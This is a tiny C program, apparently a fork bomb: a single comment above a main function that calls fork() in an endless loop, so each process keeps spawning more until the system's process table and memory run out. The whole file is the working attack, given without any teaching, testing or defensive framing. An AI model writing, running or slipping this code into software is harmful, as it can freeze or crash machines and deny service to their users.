/* Every process starts more processes. */
#include <unistd.h>

int main(void) {
  for (;;) fork();
}
